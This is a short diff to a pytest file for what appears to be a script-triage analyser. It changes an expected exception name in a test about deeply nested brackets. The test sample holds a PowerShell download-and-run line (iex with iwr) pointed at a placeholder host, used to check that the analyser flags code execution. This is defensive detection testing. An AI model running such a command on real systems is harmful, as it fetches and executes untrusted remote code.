@@ -3,7 +3,7 @@
 import pytest
 
 from tests.unit.triage.facts.reading import acts, chains, told
-from vedette.core.errors import BadInput
+from vedette.core.errors import LimitHit
 from vedette.triage.allowance import Allowance
 from vedette.triage.fact import Act, Fact, When
 from vedette.triage.facts import facts
@@ -103,6 +103,6 @@ def test_a_function_nobody_calls_is_read_too() -> None:
 def test_brackets_in_brackets_hide_nothing_before_them_and_are_told() -> None:
     code = f"iex (iwr http://a.invalid/a)\n{'(' * 20_000}1{')' * 20_000}\n"
     found: list[Fact] = []
-    with pytest.raises(BadInput, match="nested too deeply"):
+    with pytest.raises(LimitHit, match="nested too deeply"):
         found.extend(facts(Sample(name="a.ps1", data=code.encode(), kind=PS), Allowance()))
     assert Act.RUNS_CODE in {one.act for one in found}
